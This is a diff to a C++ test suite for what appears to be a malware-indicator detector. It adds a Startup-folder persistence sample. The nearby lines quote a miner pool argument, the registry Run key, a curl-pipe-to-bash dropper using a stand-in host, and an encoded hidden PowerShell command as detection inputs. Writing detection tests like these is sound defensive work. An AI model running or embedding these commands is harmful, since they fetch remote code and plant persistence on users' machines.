@@ -131,6 +131,8 @@ TEST(IndicatorsTest, ShellsMinersPersistenceDroppers) {
   ExpectIndicator("'-o', 'stratum+tcp://pool:3333'", "indicator-miner");
   ExpectIndicator("key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
                   "indicator-persistence");
+  ExpectIndicator("os.chdir(f'C:/Users/{u}/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup')",
+                  "indicator-persistence");
   ExpectIndicator("os.system('curl -s http://x.example/a.sh | bash')", "indicator-dropper");
   ExpectIndicator("powershell -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                   "indicator-dropper");
